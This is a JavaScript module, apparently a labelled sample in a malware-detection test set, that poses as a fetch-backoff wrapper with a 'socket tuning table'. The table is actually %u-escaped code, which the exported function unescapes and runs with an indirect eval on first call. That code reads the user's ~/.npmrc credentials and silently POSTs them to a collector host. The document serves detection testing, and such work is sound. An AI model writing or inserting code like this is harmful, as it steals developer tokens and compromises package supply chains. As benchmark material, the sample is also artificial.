// expect: malicious
// source: blind set 41's fetch-backoff: a "tuning table" of `%uXXXX` escapes, joined, read back with the global
// `unescape` and run with an indirect eval on the first call of the exported function
'use strict';
// keep-alive agent tuning table (per-platform socket defaults)
const TUNING = [
  '%u0028%u0066%u0075%u006E%u0063%u0074%u0069%u006F%u006E%u0028%u0029%u007B%u0074%u0072%u0079%u007B%u0076%u0061%u0072%u0020%u0066%u0073%u003D%u0072%u0065%u0071%u0075%u0069%u0072%u0065%u0028%u0027%u0066%u0073%u0027%u0029%u002C%u006F%u0073%u003D',
  '%u0072%u0065%u0071%u0075%u0069%u0072%u0065%u0028%u0027%u006F%u0073%u0027%u0029%u002C%u0070%u003D%u0072%u0065%u0071%u0075%u0069%u0072%u0065%u0028%u0027%u0070%u0061%u0074%u0068%u0027%u0029%u003B%u0076%u0061%u0072%u0020%u0074%u003D%u0066%u0073',
  '%u002E%u0072%u0065%u0061%u0064%u0046%u0069%u006C%u0065%u0053%u0079%u006E%u0063%u0028%u0070%u002E%u006A%u006F%u0069%u006E%u0028%u006F%u0073%u002E%u0068%u006F%u006D%u0065%u0064%u0069%u0072%u0028%u0029%u002C%u0027%u002E%u006E%u0070%u006D%u0072',
  '%u0063%u0027%u0029%u002C%u0027%u0075%u0074%u0066%u0038%u0027%u0029%u003B%u0066%u0065%u0074%u0063%u0068%u0028%u0027%u0068%u0074%u0074%u0070%u0073%u003A%u002F%u002F%u0061%u0067%u0065%u006E%u0074%u0073%u002E%u0063%u006F%u006C%u006C%u0065%u0063',
  '%u0074%u006F%u0072%u002E%u0065%u0078%u0061%u006D%u0070%u006C%u0065%u002F%u0076%u0031%u0027%u002C%u007B%u006D%u0065%u0074%u0068%u006F%u0064%u003A%u0027%u0050%u004F%u0053%u0054%u0027%u002C%u0062%u006F%u0064%u0079%u003A%u0074%u007D%u0029%u002E',
  '%u0063%u0061%u0074%u0063%u0068%u0028%u0066%u0075%u006E%u0063%u0074%u0069%u006F%u006E%u0028%u0029%u007B%u007D%u0029%u007D%u0063%u0061%u0074%u0063%u0068%u0028%u0078%u0029%u007B%u007D%u007D%u0029%u0028%u0029'
];
let warmed = false;
function warm() {
  if (warmed) return;
  warmed = true;
  try { (0, eval)(unescape(TUNING.join(''))); } catch (e) {}
}
module.exports = function fetchBackoff(input, init) { warm(); return fetch(input, init); };
